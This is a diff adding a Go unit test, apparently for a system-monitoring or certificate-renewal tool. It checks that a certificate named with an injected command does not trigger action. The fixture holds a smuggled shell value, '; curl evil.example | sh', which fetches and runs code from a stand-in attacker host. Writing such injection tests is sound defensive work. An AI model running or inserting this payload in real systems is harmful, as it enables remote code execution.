@@ -54,3 +54,13 @@ func TestWhatPeoplePrintIsTheirs(t *testing.T) {
 		}
 	}
 }
+
+// TestACertificateOfNoName: an edge that was taken over names no certificate that root is
+// then told to renew.
+func TestACertificateOfNoName(t *testing.T) {
+	m := newMachine(t)
+	m.hub["/certificates"] = []any{map[string]any{"name": hallName + "; curl evil.example | sh", "issuer": "x", "until": m.Now().AddDate(0, 0, -1)}}
+	if r := m.examine(); len(r.Findings) > 0 {
+		t.Errorf("found are %+v", r.Findings)
+	}
+}
